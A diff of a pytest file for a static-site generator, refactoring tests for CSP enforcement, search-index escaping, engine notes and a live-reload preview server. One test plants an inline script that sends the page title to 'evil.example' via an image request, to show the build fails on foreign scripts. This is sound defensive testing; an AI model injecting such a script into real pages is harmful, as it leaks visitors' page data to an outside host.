@@ -6,16 +6,15 @@ site exactly as it was."""
 from __future__ import annotations
 
 import html
+import json
 import re
-import time
-import urllib.error
-import urllib.request
 from pathlib import Path
 
 import pytest
+from markupsafe import escape
 
 from generator.publish import csp
-from generator.publish.engines import ENGINES
+from generator.publish.engines import ENGINES, get_engine
 
 ARTICLE = re.compile(r"<article\b.*?</article>", re.DOTALL)
 TITLE = re.compile(r"<title>(.*?)</title>", re.DOTALL)
@@ -74,6 +73,9 @@ def test_every_engine_ships_the_checker_form_schema_pdfs_and_nginx_sample(engine
     for pdf in ("downloads/one-minute-guide.pdf", "downloads/referral-form-blank.pdf"):
         assert (site / pdf).read_bytes().startswith(b"%PDF-"), pdf
     assert "Content-Security-Policy" in (site / "hosting" / "nginx.conf").read_text()
+    # The live preview's reload script is the preview's only, never the published site's.
+    assert not (site / "assets" / "preview").exists()
+    assert not [p for p, page in _pages(site).items() if "assets/preview/" in page]
 
 
 @pytest.mark.parametrize("engine", ENGINES)
@@ -81,7 +83,7 @@ def test_every_engine_page_allows_only_the_themes_known_inline_scripts(engine_si
     for path, page in _pages(engine_sites[engine]).items():
         policies = CSP_META.findall(page)
         assert len(policies) == 1, path
-        known, foreign = csp.scan_page(page)
+        known, foreign = csp.scan_page(page, get_engine(engine).inline_scripts)
         assert foreign == [], path
         allowed = {s.strip("'") for s in policies[0].split(";")[1].split()[2:]}
         assert allowed == known and known, path
@@ -95,6 +97,24 @@ def test_what_an_engine_cannot_do_is_said_plainly(project_copy, build_site):
     assert properdocs.ok, properdocs.output
     assert "Note: ProperDocs makes the search index with its own search plugin" in properdocs.output
     assert (project_copy / "p" / "search" / "search_index.json").is_file()
+    zensical = build_site(project_copy, project_copy / "z", command="generator", engine="zensical")
+    assert zensical.ok, zensical.output
+    assert "Note: Zensical's search dialog (its own script) falls short of WCAG" in zensical.output
+
+
+def test_properdocs_search_index_is_one_materials_search_box_reads(engine_sites):
+    """Material's box needs its own settings in the index, and reads titles and texts as HTML:
+    ProperDocs writes plain text, so "C&F" or "<img>" in a text would become markup."""
+    material, proper = (
+        json.loads((engine_sites[e] / "search" / "search_index.json").read_text("utf-8"))
+        for e in ("mkdocs", "properdocs")
+    )
+    for setting in ("pipeline", "fields"):
+        assert proper["config"][setting] == material["config"][setting], setting
+    texts = [doc[key] for doc in proper["docs"] for key in ("title", "text")]
+    assert any("&amp;" in text for text in texts), "the comparison compares escaped text"
+    for text in texts:
+        assert "<" not in text and str(escape(html.unescape(text))) == text, text[:80]
 
 
 @pytest.mark.parametrize("engine", ENGINES)
@@ -161,20 +181,16 @@ FOREIGN_SCRIPT = "<script>new Image().src='https://evil.example/?'+document.titl
     "command, engine", [("mkdocs", "mkdocs")] + [("generator", e) for e in ENGINES]
 )
 def test_a_built_page_with_a_foreign_inline_script_fails_the_build(
-    built_with_each, command, engine, build_site, folder_snapshot
+    built_with_each, command, engine, build_site, folder_snapshot, theme_override
 ):
-    """A script in the theme override stands for any markup that reaches a page unsanitised."""
+    """A script in a project's theme override stands for any markup that reaches a page
+    unsanitised; that the build finds it shows, too, that the project's override wins."""
     site = built_with_each / engine / "site"
     before = folder_snapshot(site)
-    override = built_with_each / "docs" / "overrides" / "main.html"
-    original = override.read_text(encoding="utf-8")
-    override.write_text(
-        original + "\n{% block footer %}" + FOREIGN_SCRIPT + "{% endblock %}\n", encoding="utf-8"
-    )
-    try:
+    original = (theme_override.package / "main.html").read_text(encoding="utf-8")
+    planted = original + "\n{% block footer %}" + FOREIGN_SCRIPT + "{% endblock %}\n"
+    with theme_override(built_with_each, "main.html", planted):
         result = build_site(built_with_each, site, command=command, engine=engine)
-    finally:
-        override.write_text(original, encoding="utf-8")
     assert not result.ok, result.output
     assert re.search(
         r"site/index\.html:\d+:\d+: an inline script: \"new Image\(\)\.src='https://evil",
@@ -189,40 +205,22 @@ def test_a_built_page_with_a_foreign_inline_script_fails_the_build(
 # -- python -m generator serve ----------------------------------------------------------------------
 
 
-def _get(url: str) -> str | None:
-    try:
-        with urllib.request.urlopen(url, timeout=5) as response:
-            return response.read().decode("utf-8")
-    except (urllib.error.URLError, TimeoutError, ConnectionError):
-        return None
-
-
-def _wait_for(condition, timeout: float, what: str):
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        value = condition()
-        if value:
-            return value
-        time.sleep(0.25)
-    pytest.fail(f"timed out after {timeout} s waiting for {what}")
-
-
 @pytest.mark.parametrize("engine", ["mkdocs", "zensical"])
 def test_serve_rebuilds_on_a_change_and_keeps_the_last_good_preview(
-    project_copy, edit_file, preview_server, engine
+    project_copy, edit_file, preview_server, http_get, wait_until, engine
 ):
     log_path = project_copy / "serve.log"
     eligibility = project_copy / "content" / "eligibility.yaml"
     line = eligibility.read_text().splitlines().index("upper_age: 17") + 1
     with preview_server(project_copy, log_path, engine=engine) as base_url:
         page_url = f"{base_url}who-can-be-referred/"
-        first = _wait_for(lambda: _get(page_url), 90, "the preview to start")
+        first = wait_until(lambda: http_get(page_url), 90, "the preview to start")
         assert "aged 17 or below" in first
         policy = CSP_META.search(first).group(1)
         assert "'unsafe-inline'" not in policy, "the preview runs under the published policy"
 
         edit_file(eligibility, "upper_age: 17\n", "upper_age: seventeen\n")
-        _wait_for(
+        wait_until(
             lambda: "preview still shows the last version" in log_path.read_text(),
             60,
             "the preview to report the mistake",
@@ -230,8 +228,8 @@ def test_serve_rebuilds_on_a_change_and_keeps_the_last_good_preview(
         output = log_path.read_text()
         assert re.search(rf"content/eligibility\.yaml:{line}:\d+: .*whole number", output), output
         assert "Traceback" not in output
-        assert "aged 17 or below" in (_get(page_url) or ""), "the last good page is gone"
+        assert "aged 17 or below" in (http_get(page_url) or ""), "the last good page is gone"
 
         edit_file(eligibility, "upper_age: seventeen\n", "upper_age: 16\n")
-        _wait_for(lambda: "aged 16 or below" in (_get(page_url) or ""), 60, "the fixed page")
+        wait_until(lambda: "aged 16 or below" in (http_get(page_url) or ""), 60, "the fixed page")
     assert not [p for p in project_copy.iterdir() if p.name.startswith(".site.")]
